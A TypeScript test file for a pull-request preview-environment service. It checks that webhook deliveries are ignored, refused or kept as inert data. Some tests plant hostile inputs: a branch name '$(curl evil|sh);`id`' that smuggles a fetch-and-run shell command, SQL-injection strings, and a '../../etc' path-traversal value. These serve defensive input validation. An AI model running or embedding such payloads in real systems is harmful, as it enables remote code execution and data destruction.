import { createRequire } from 'node:module';
import { describe, expect, it } from 'vitest';
import { tempSqliteStore } from '../../../../../test/support/sqlite.ts';
import { PreviewsSchema } from '../../config/previews.ts';
import { readPullRequest } from './pull-request.ts';
import type { PreviewRunner } from './runner.ts';
import { PreviewLifecycle } from './service.ts';
import { PreviewStore } from './store.ts';
import type { WebhookDelivery } from './types.ts';

const require = createRequire(import.meta.url);
type Example = Record<string, unknown> & { action: string; pull_request: Record<string, unknown> };
const index = require('@octokit/webhooks-examples/api.github.com/index.json') as {
  name: string;
  examples: Example[];
}[];
const prExamples = index.find((e) => e.name === 'pull_request')!.examples;
const example = (action: string, pick: (e: Example) => boolean = () => true): Example =>
  structuredClone(prExamples.find((e) => e.action === action && pick(e))!);

/** Every action of the runner fails the test: these deliveries must make nothing. */
const untouchable: PreviewRunner = {
  create: () => Promise.reject(new Error('create must not run')),
  copySecrets: () => Promise.reject(new Error('copySecrets must not run')),
  deploy: () => Promise.reject(new Error('deploy must not run')),
  teardown: () => Promise.reject(new Error('teardown must not run')),
};

const config = PreviewsSchema.parse({
  repositories: { 'Codertocat/Hello-World': { cloneUrl: 'file:///nowhere/hello.git', team: 'payments' } },
});

function delivery(payload: Example, id: string): WebhookDelivery {
  const repo = (payload.repository as { full_name?: string } | undefined)?.full_name ?? null;
  return { id, event: 'pull_request', action: payload.action, repo, number: payload.number as number, payload };
}

describe('PreviewLifecycle: deliveries that make nothing, with GitHub example payloads', () => {
  const t = tempSqliteStore('previews-service');
  const service = () =>
    new PreviewLifecycle({
      store: new PreviewStore(t.store.db),
      config: () => config,
      runner: untouchable,
      membership: { isMember: () => Promise.resolve(false) },
    });

  it('an unconfigured repository is ignored, with the reason', async () => {
    const p = example('opened');
    (p.repository as { full_name: string }).full_name = 'someone/else';
    expect(await service().handle(delivery(p, 'd1'))).toEqual({
      status: 'ignored',
      outcome: 'someone/else is not configured for previews',
    });
  });

  it('other events and actions are ignored', async () => {
    expect(await service().handle({ ...delivery(example('opened'), 'd2'), event: 'push' })).toMatchObject({
      status: 'ignored',
    });
    for (const a of ['assigned', 'locked', 'review_requested']) {
      const r = await service().handle(delivery(example(a), `d-${a}`));
      expect(r).toEqual({ status: 'ignored', outcome: `the action ${a} does not change previews` });
    }
  });

  it('a draft is skipped, and closed / converted_to_draft with no preview remove nothing', async () => {
    const draft = example('opened');
    draft.pull_request.draft = true;
    expect(await service().handle(delivery(draft, 'd3'))).toEqual({
      status: 'ignored',
      outcome: 'drafts get no preview',
    });
    expect((await service().handle(delivery(example('closed'), 'd4'))).outcome).toMatch(/no preview to remove/);
    expect((await service().handle(delivery(example('converted_to_draft'), 'd5'))).status).toBe('ignored');
  });

  it('the opt-out label keeps a pull request without a preview', async () => {
    const p = example('opened');
    p.pull_request.labels = [{ name: 'no-preview' }];
    expect(await service().handle(delivery(p, 'd6'))).toEqual({
      status: 'ignored',
      outcome: 'the label no-preview opts out',
    });
  });

  it('a payload missing what the life cycle needs fails with the reason, recording no preview', async () => {
    const bad = example('opened');
    (bad.pull_request.head as { sha: string }).sha = "'; DROP TABLE previews;--";
    expect(await service().handle(delivery(bad, 'd7'))).toEqual({
      status: 'failed',
      outcome: 'pull_request.head.sha is not a commit id',
    });
    const noPr = example('opened') as Record<string, unknown>;
    delete noPr.pull_request;
    expect((await service().handle(delivery(noPr as Example, 'd8'))).status).toBe('failed');
    expect(await new PreviewStore(t.store.db).list()).toEqual([]);
  });
});

describe('readPullRequest', () => {
  it('reads GitHub example payloads', () => {
    const r = readPullRequest(example('synchronize'));
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.pr).toMatchObject({ repo: 'Codertocat/Hello-World', fork: false, sender: 'Codertocat' });
    expect(r.pr.headSha).toMatch(/^[0-9a-f]{40}$/);
    expect(r.pr.event).toMatchObject({ action: 'synchronize', open: true, senderIsTeamMember: false });
    const labeled = readPullRequest(example('labeled'));
    expect(labeled.ok && labeled.pr.event.label).toBeTruthy();
  });

  it('keeps hostile branch names and titles as bounded data, and tells a fork by its head repository', () => {
    const p = example('opened');
    (p.pull_request.head as Record<string, unknown>).ref = '$(curl evil|sh);`id`';
    p.pull_request.title = `x'; DROP TABLE previews;--${'y'.repeat(1000)}`;
    (p.pull_request.head as { repo: { full_name: string } }).repo.full_name = 'mallory/Hello-World';
    const r = readPullRequest(p);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.pr.headRef).toBe('$(curl evil|sh);`id`');
    expect(r.pr.title.length).toBe(256);
    expect(r.pr).toMatchObject({ fork: true, headRepo: 'mallory/Hello-World' });
    (p.pull_request.head as Record<string, unknown>).repo = null;
    const gone = readPullRequest(p);
    expect(gone.ok && gone.pr.headRepo).toBe('Codertocat/Hello-World');
  });

  it('refuses numbers and repositories that are not what GitHub sends', () => {
    const p = example('opened');
    p.number = -3;
    expect(readPullRequest(p)).toMatchObject({ ok: false, reason: expect.stringMatching(/number/) });
    const q = example('opened');
    (q.repository as { full_name: string }).full_name = '../../etc';
    expect(readPullRequest(q)).toMatchObject({ ok: false, reason: expect.stringMatching(/owner\/name/) });
  });
});

describe('PreviewLifecycle: a stop of the control plane mid-way', () => {
  const t = tempSqliteStore('previews-service-stop');

  it('is not recorded or reported as the preview failing: the delivery is left to be redone', async () => {
    const changes: string[] = [];
    const service: PreviewLifecycle = new PreviewLifecycle({
      store: new PreviewStore(t.store.db),
      config: () => config,
      runner: {
        ...untouchable,
        // The server stops while the environment is being waited for: the wait ends with an error.
        create: () => {
          service.stop();
          return Promise.reject(new Error('the wait for the environment was ended'));
        },
      },
      membership: { isMember: () => Promise.resolve(false) },
      onChange: (repo, number) => {
        changes.push(`${repo}#${number}`);
        return Promise.resolve();
      },
    });
    const p = example('opened');
    const r = await service.handle(delivery(p, 'stop-1'));
    expect(r).toMatchObject({ status: 'interrupted', outcome: expect.stringMatching(/interrupted by a stop/) });
    const row = await new PreviewStore(t.store.db).get('Codertocat/Hello-World', p.number as number);
    expect(row).toMatchObject({ status: 'creating', note: null });
    // Reported once, when it started creating; never as failed.
    expect(changes).toHaveLength(1);
  });
});
